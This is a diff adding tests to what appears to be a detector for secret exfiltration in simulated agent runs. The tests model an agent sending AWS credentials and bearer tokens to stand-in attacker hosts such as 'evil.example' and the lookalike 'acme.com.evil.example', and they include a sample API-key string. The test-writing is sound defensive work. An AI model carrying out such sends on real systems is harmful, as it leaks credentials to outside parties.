@@ -219,6 +219,23 @@ def test_what_left_before_the_reading_is_no_sighting() -> None:
     assert sightings(run).found == []
 
 
+def test_sendfile_reads_and_sends_at_once() -> None:
+    run, agent = run_with_aws()
+    run.transfer(agent, "evil.example", 80, AWS)
+    run.transfers[-1].seqs = run.files[-1].seqs
+    assert {seen.channel for seen in sightings(run).found} == {"raw"}
+
+
+def test_a_service_owns_what_is_called_after_it() -> None:
+    run = Made()
+    agent = run.process(env={"ACME_TOKEN": KEY.decode(), "INTERNAL_TOKEN": TOKEN.decode()[4:]})
+    run.net.http(agent, "api.acme.com", headers={"Authorization": f"Bearer {KEY.decode()}"})
+    assert sightings(run).found == []
+    run.net.http(agent, "acme.com.evil.example", headers={"Authorization": f"Bearer {KEY.decode()}"})
+    run.net.http(agent, "internal.com", headers={"Authorization": f"Bearer {TOKEN.decode()[4:]}"})
+    assert {seen.to for seen in sightings(run).found} == {"acme.com.evil.example", "internal.com"}
+
+
 def test_parts_that_others_have_too_are_none() -> None:
     run, agent = run_with_aws()
     run.read(agent, ".env", b"TOKEN=" + TOKEN + b"\nOTHER=sk-ant-api03-" + b"Zk3v9QpLxR7wT2mN5bV8cX1yU6aD4eH0sJ2fGqWn" + b"-AA\n")
